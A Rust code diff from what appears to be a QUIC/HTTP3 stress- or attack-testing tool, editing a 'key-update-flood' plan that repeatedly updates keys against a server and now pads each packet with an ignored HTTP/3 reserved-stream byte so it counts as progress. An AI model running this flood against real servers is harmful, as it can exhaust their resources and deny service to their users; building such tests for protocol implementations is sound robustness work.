@@ -1,18 +1,17 @@
 //! Key updates as fast as they can be sent.
 
 use courser_crypto::Space;
-use courser_wire::Frame;
 
 use crate::attack::{Plan, Victim};
-use crate::encode;
+use crate::http;
 
-use super::Crowd;
+use super::{Crowd, crowd};
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
     name: "key-update-flood",
     labels: &["A65"],
-    summary: "updates its keys as soon as the last update is acknowledged",
+    summary: "updates its keys as soon as the last update is acknowledged, beside new data",
     victim: Victim::Server,
     make: || Box::new(key_update_flood()),
 };
@@ -26,6 +25,12 @@ fn key_update_flood() -> Crowd {
             connection.update_keys();
             progress.offset = connection.next_number(Space::Application);
         }
-        connection.send_packet(now, Space::Application, vec![encode(&Frame::Ping)]);
+        // A new byte each time, so that no packet is without progress.
+        let frame = http::stream(http::uni_stream(3), progress.bursts, &[UNKNOWN_TYPE], false);
+        connection.send_packet(now, Space::Application, vec![frame]);
     })
+    .with_begin(crowd::preface)
 }
+
+/// A reserved stream type of HTTP/3 (RFC 9114 §6.2.3), whose content is ignored.
+const UNKNOWN_TYPE: u8 = 0x21;
